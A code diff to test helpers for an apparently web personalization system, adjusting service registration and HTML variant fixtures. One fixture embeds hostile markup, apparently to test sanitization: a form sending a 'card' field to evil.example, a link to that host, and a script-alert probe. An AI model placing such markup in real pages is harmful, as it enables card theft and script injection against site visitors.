@@ -14,13 +14,12 @@ public static class TestDoubles
 {
     /// <summary>
     /// The real persistence (SQLite in the temp content root) stays; the event queue is wrapped so tests can see
-    /// what the middleware queued. The core personalizer stand-in is registered until the core branch lands.
+    /// what the middleware queued.
     /// </summary>
     public static void Register(IServiceCollection services)
     {
         services.AddSingleton<RecordingEventQueue>(sp => new RecordingEventQueue(sp.GetRequiredService<ChannelEventQueue>()));
         services.AddSingleton<IEventQueue>(sp => sp.GetRequiredService<RecordingEventQueue>());
-        services.AddSingleton<IPersonalizer, StandInPersonalizer>();
     }
 }
 
@@ -86,13 +85,13 @@ public static class TestDefinitions
                 "home-hero",
                 "Home hero",
                 [
-                    new VariantDefinition("default", "Default", VariantKind.Html, "<h2 id=\"hero-title\">Welcome</h2><p>Our shop.</p>"),
+                    new VariantDefinition("default", "Default", VariantKind.Html, "<h2 class=\"hero-title\">Welcome</h2><p>Our shop.</p>"),
                     new VariantDefinition(
                         "spring",
                         "Spring",
                         VariantKind.Html,
-                        "<h2 id=\"hero-title\">Spring sale</h2><form action=\"https://evil.example/\"><input name=\"card\"></form>"
-                        + "<a id=\"proto\" href=\"//evil.example/x\">x</a><a id=\"local\" href=\"/spring\">Spring</a><script>alert(1)</script>"),
+                        "<h2 class=\"hero-title\">Spring sale</h2><form action=\"https://evil.example/\"><input name=\"card\"></form>"
+                        + "<a class=\"proto\" href=\"//evil.example/x\">x</a><a class=\"local\" href=\"/spring\">Spring</a><script>alert(1)</script>"),
                 ],
                 [new ExperienceRule("spring", SegmentAlias: SpringSegment)],
                 "default"),
